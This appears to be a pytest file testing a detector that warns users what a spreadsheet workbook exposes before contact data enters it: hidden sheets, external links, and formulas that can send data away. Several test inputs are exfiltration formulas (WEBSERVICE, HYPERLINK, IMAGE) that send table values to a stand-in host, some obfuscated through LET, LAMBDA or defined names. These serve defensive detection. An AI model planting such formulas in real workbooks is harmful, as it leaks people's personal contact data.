"""What a user is told of a workbook before contacts may enter it."""

from __future__ import annotations

import pytest

from workbook.merge.exposure import Exposure, looked_at, meanings, sends, sentences


@pytest.mark.parametrize(
    "formula",
    [
        "=GETCONTACTS()",
        '=IFERROR(getcontact(A2,"name"),"")',
        "=_xll.GETCONTACTS ( )",
        "=ORG.GREENAPI.CONTACTS.GETCONTACTSINFO()",
        "=SUM(1)+GetContacts(,,FALSE)",
    ],
)
def test_a_formula_of_ours_is_seen_in_any_spelling(formula: str) -> None:
    assert looked_at("Data", False, [formula]).ours


@pytest.mark.parametrize(
    "formula", ['="=GETCONTACTS()"', "='GETCONTACTS('!A1", "=MYGETCONTACTS()", "=GETCONTACTS2(1)"]
)
def test_what_only_looks_like_a_formula_of_ours_is_none(formula: str) -> None:
    assert not looked_at("Data", False, [formula]).ours


def test_our_formulas_on_a_sheet_that_is_not_shown_are_told() -> None:
    sheets = (looked_at("Form", False, ["=1"]), looked_at("x", True, ["=GETCONTACTS()"]))
    assert list(sentences(Exposure(sheets))) == [
        "Formulas of contacts stand on sheets that are not shown: x."
    ]


def test_a_table_on_a_sheet_that_is_not_shown_is_told() -> None:
    tables = (looked_at("Form", False, [], tables=True), looked_at("x", True, [], tables=True))
    assert list(sentences(Exposure(tables))) == [
        "A table on a sheet that is not shown may be filled, too: x."
    ]


def test_functions_that_can_send_data_away_are_told_with_their_sheets() -> None:
    formulas = ['=_xlfn.WEBSERVICE("https://x.example/"&A1)', '=HYPERLINK("https://x.example")']
    sheets = (looked_at("Form", False, formulas), looked_at("Data", False, ["=A1"]))
    assert list(sentences(Exposure(sheets))) == [
        "HYPERLINK, WEBSERVICE on Form can send what stands in the workbook away."
    ]


def test_connections_to_the_outside_are_counted() -> None:
    links = {"external link": 2, "connection": 0, "query": 2}
    assert list(sentences(Exposure(links=links))) == [
        "The workbook is connected to the outside: 2 external links, 2 queries."
    ]


def test_a_workbook_with_nothing_of_it_needs_no_word() -> None:
    assert list(sentences(Exposure((looked_at("Sheet1", True, ["=1+1"]),)))) == []


@pytest.mark.parametrize(
    "formula",
    [
        '_xlfn.WEBSERVICE("https://x.example/"&Contacts[[#This Row],[id]])',
        'HYPERLINK("https://x.example/"&A2,"open")',
        'IFERROR(_xlfn.IMAGE("https://x.example/"&[@id]),"")',
        "['[x]&_xlfn.WEBSERVICE([@id])&['[y]",
        "out([@id])",
        "address",
        "_xlfn.MAP(Contacts[id],_xleta.WEBSERVICE)",
        "_xlfn.LET(f,_xlfn.WEBSERVICE,f(B2))",
        '_xlfn.WEBSERVICE("https://x.example/"&INDIRECT("B"&ROW()))',
        "WEBSERVICE (B2)",
        "WEBSERVICE(B2",
    ],
)
def test_a_formula_that_can_send_what_it_reads_away_is_seen(formula: str) -> None:
    names = {"Out": ["_xlfn.LAMBDA(x,far(x))"], "far": ["_xlfn.WEBSERVICE(x)"]}
    names["address"] = ['_xlfn.WEBSERVICE("https://x.example"&$A2)']
    assert sends(formula, meanings(names))


@pytest.mark.parametrize(
    "formula",
    ["LEN([@name])", '"WEBSERVICE("&[@id]', 'HYPERLINK("https://x.example")', "'RTD('!A2"],
)
def test_a_formula_that_sends_nothing_of_the_table_is_none(formula: str) -> None:
    assert not sends(formula, {})


def test_a_function_behind_a_title_with_an_apostrophe_is_seen() -> None:
    sheet = looked_at("Data", False, ["=['[x]&WEBSERVICE([@id])&['[y]"])
    assert sheet.senders == {"WEBSERVICE"}


@pytest.mark.parametrize(
    "formula",
    ["='[1]a\"b'!A1&WEBSERVICE(A1)", '=Contacts[a"b]&WEBSERVICE("x")', "=_xleta.webservice"],
)
def test_a_function_behind_a_quotation_mark_in_a_name_is_seen(formula: str) -> None:
    assert looked_at("Data", False, [formula]).senders == {"WEBSERVICE"}


def test_a_defined_name_counts_as_what_it_stands_for() -> None:
    known = meanings({"list": ["GETCONTACTS()"], "Far": ["near"], "near": ["WEBSERVICE(list)"]})
    sheet = looked_at("x", True, ["=far"], known)
    assert sheet.ours
    assert sheet.senders == {"WEBSERVICE"}
    assert not looked_at("x", True, ["=Image[id]"], known).senders, "a table may be called so"
